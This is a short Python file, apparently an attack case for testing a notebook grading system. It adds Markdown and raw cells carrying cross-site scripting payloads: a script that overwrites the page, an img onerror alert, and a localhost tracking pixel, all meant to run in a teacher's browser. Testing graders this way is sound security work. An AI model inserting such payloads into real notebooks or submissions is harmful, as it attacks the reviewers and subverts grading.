"""Writes Markdown and raw cells that run in the teacher's browser."""

SCRIPT = "<script>document.body.innerHTML = 'hacked'</script>"
POINTS = 0


def change(nb):
    text = SCRIPT + "\n\n![pixel](http://127.0.0.1:1/pixel) <img src=x onerror=alert(1)>"
    for number, kind in enumerate(["markdown", "raw"]):
        nb["cells"].append(
            {"cell_type": kind, "id": f"note-{number}", "metadata": {}, "source": text}
        )
